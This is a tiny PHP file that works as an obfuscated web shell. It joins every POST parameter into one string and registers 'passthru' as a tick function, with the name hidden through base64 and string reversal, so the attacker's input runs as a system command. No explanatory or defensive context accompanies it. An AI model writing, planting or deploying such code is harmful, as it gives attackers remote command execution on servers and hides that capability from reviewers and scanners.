<?php
$arg = implode('', $_POST);
declare(ticks=1);
register_tick_function(strrev(base64_decode('dXJodHNzYXA=')), $arg);
